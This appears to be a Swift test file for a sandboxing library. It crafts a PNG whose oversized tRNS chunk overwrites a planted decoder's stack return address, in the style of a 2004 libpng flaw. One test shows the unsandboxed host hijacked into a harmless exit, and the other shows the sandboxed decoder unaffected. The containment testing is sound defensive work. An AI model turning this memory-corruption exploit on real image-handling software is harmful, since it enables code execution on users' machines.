import BulkheadSandbox
import Foundation
import PNG
import PNGFiles
import PlantedPNG
import Testing

/// An image that took over programs in 2004, without a sandbox and with one.
@Suite struct PlantedPNGTests {
    /// Transparency for far more colours than there are: the array for it is on the stack, and so is where the function returns to.
    private static var attack: [UInt8] {
        let code: @convention(c) () -> Void = { _exit(66) }
        let address = UInt64(UInt(bitPattern: unsafeBitCast(code, to: UnsafeRawPointer.self)))
        let word = (0..<8).map { UInt8(truncatingIfNeeded: address >> (8 * UInt64($0))) }
        return PNGFile([
            PNGFile.header(width: 1, height: 1, colorType: 3),
            .init("PLTE", [1, 2, 3]),
            .init("tRNS", Array((0..<64).map { _ in word }.joined())),
            .init("IDAT", [0x78, 0x01, 0x01, 0x02, 0x00, 0xFD, 0xFF, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01]),
            .init("IEND", []),
        ]).bytes
    }

    private static var good: [UInt8] {
        PNGFile([
            PNGFile.header(width: 1, height: 1, colorType: 3),
            .init("PLTE", [1, 2, 3]),
            .init("tRNS", [200]),
            .init("IDAT", [0x78, 0x01, 0x01, 0x02, 0x00, 0xFD, 0xFF, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01]),
            .init("IEND", []),
        ]).bytes
    }

    /// The host runs the attacker's code, or, where the compiler laid the stack out in another way, crashes.
    @Test func withoutASandboxTheHostIsTheAttackers() async {
        await #expect(processExitsWith: .failure) {
            let decoder = try PNGDecoder(
                image: PlantedPNG.image(for: LibPNG.self, isDirect: true), poolSize: 0)
            _ = try? decoder.decode(Self.good)
            _ = try? decoder.decode(Self.attack)
            exit(0)
        }
    }

    @Test func inASandboxThereIsNothingToReturnTo() throws {
        let decoder = try PNGDecoder(image: PlantedPNG.image(for: LibPNG.self, isDirect: false))
        for _ in 0..<100 { _ = try? decoder.decode(Self.attack) }
        #expect(try decoder.decode(Self.good).pixels == [1, 2, 3, 200])
    }
}
